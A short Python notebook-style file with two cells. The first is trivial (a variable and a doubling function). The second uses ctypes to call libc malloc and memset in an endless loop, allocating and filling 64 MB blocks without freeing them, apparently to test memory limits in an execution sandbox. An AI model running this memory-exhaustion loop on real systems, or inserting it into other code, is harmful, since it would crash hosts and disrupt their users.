# %%
answer = 42


def double(x):
    return 2 * x

# %%
import ctypes

libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
libc.malloc.argtypes = [ctypes.c_size_t]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
while True:
    libc.memset(libc.malloc(64 << 20), 1, 64 << 20)
